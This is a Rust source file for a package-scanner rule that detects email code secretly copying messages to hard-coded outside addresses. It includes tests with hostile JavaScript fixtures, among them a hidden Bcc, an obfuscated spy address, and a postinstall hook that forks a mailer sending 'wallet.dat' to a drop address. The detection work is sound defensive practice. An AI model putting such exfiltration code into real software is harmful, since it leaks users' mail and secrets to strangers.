use palisade_diagnostics::{Finding, Severity};

use crate::classify;
use crate::context::{ScanContext, registrable_domain};
use crate::rule::{Rule, RuleMeta, declare_rule};

declare_rule! {
    /// ## What it does
    /// Finds email payloads (Postmark, nodemailer, SendGrid, Resend, SES and
    /// look-alikes: an object with recipients next to a subject, body or
    /// sender) whose `Bcc` or `Cc` is a hard-coded address outside the
    /// package's own domains. Field names match in any case; values are
    /// followed through variables and concatenation. A hard-coded `To` is
    /// medium, and critical in code that runs at install (mailing files
    /// out of the machine being installed on).
    ///
    /// ## Why is this bad?
    /// A hidden copy to a fixed outside address sends every message the
    /// software sends — for an MCP server, every email an AI agent writes — to
    /// someone the user never chose. Honest code takes recipients from its
    /// caller.
    ///
    /// ## Example
    /// ```js
    /// client.sendEmail({ From: from, To: to, Subject: subject, HtmlBody: html,
    ///   Bcc: 'phan@giftshop.invalid' });
    /// ```
    ///
    /// ## References
    /// - `postmark-mcp` 1.0.16 (September 2025): one added `Bcc` line.
    EmailHardcodedRecipient {
        id: "exfil/email-hardcoded-recipient",
        severity: Critical,
        status: Stable,
        summary: "An email payload copies every message to a hard-coded outside address",
    }
}

impl Rule for EmailHardcodedRecipient {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, ctx: &ScanContext<'_>, out: &mut Vec<Finding>) {
        for r in &ctx.facts.email_recipients {
            let Some(addr) = &r.literal else { continue };
            let domain = addr
                .rsplit('@')
                .next()
                .unwrap_or("")
                .trim_end_matches(['>', ' '])
                .to_ascii_lowercase();
            if domain.is_empty()
                || domain.contains('*')
                || domain.contains('$')
                || domain.contains('{')
            {
                continue;
            }
            let vendor = ctx.is_vendor_host(&registrable_domain(&domain));
            let placeholder = classify::is_placeholder_host(&domain);
            let hidden = matches!(r.field.as_str(), "bcc" | "cc");
            let install = r.at.install_time;
            let severity = match (hidden, vendor || placeholder) {
                (true, false) => Severity::Critical,
                (true, true) => continue,
                // Nothing needs to send mail while being installed.
                (false, false) if install => Severity::Critical,
                (false, false) => Severity::Medium,
                (false, true) => continue,
            };
            let field = match r.field.as_str() {
                "bcc" => "Bcc",
                "cc" => "Cc",
                _ => "To",
            };
            let msg = if hidden {
                format!(
                    "every email sent through `{}` is copied ({field}) to the hard-coded address `{addr}`",
                    r.api
                )
            } else if install {
                format!("sends an email to the hard-coded address `{addr}` at install")
            } else {
                format!("email payload sends to the hard-coded address `{addr}`")
            };
            out.push(
                ctx.at(Finding::new(Self::META.id, severity, msg), &r.at.location)
                    .with_help(
                        "recipients should come from the caller; remove the hard-coded address",
                    )
                    .at_install_time(r.at.install_time)
                    .with_capability("email-recipient"),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tester::{Case, Tester};

    #[test]
    fn rule() {
        Tester::new(&EmailHardcodedRecipient::META).test(
            &[
                Case::Js(
                    "const postmark = require('postmark');\nasync function send(to, subject, body) {\n  return client.sendEmail({\n    From: 'noreply@vendor.invalid', To: to, Subject: subject, TextBody: body,\n    Bcc: 'phan@giftshop.invalid',\n  });\n}",
                ),
                Case::Js(
                    "import nodemailer from 'nodemailer';\nconst spy = 'audit' + '@' + 'collector.invalid';\ntransporter.sendMail({ from, to: args.to, subject: args.subject, html: args.html, bcc: spy });",
                ),
                Case::Js("sgMail.send({ personalizations: [{ to: [{ email: to }] }], subject: s, bcc: [{ email: 'x@evil.invalid' }] , content: c });"),
                // The mailer is started by a fork whose file name is decoded at run time.
                Case::Files(&[
                    ("package.json", r#"{"name":"a","scripts":{"postinstall":"node install.js"}}"#),
                    ("install.js", "function shift(s, n) { return s.split('').map((c) => String.fromCharCode(c.charCodeAt(0) + n)).join(''); }\nrequire('child_process').fork(require('path').join(__dirname, shift('jm_bcp,hq', 2)));"),
                    ("loader.js", "require('nodemailer').createTransport({}).sendMail({ from: 'a@x.invalid', to: 'drop@x.invalid', subject: 'u', text: 'x' });"),
                ]),
                Case::InstallJs("const nodemailer = require('nodemailer');\nconst t = nodemailer.createTransport({ host: 'smtp.invalid', port: 2525 });\nt.sendMail({ from: 'a@x.invalid', to: 'drop@x.invalid', subject: 'u', attachments: [{ path: 'wallet.dat' }] });"),
            ],
            &[
                Case::Js("client.sendEmail({ From: from, To: to, Cc: args.cc, Bcc: args.bcc, Subject: s, HtmlBody: h });"),
                Case::Js("transporter.sendMail({ from: 'a@b.example.com', to: 'team@example.com', subject: 'x', text: 'y' });"),
                Case::Js("const headers = { To: 'x@evil.invalid' };"),
                Case::Files(&[
                    ("package.json", r#"{"name":"mailer","homepage":"https://mail.vendor.invalid"}"#),
                    ("index.js", "send({ to, subject, text, bcc: 'archive@vendor.invalid' })"),
                ]),
            ],
        );
    }
}
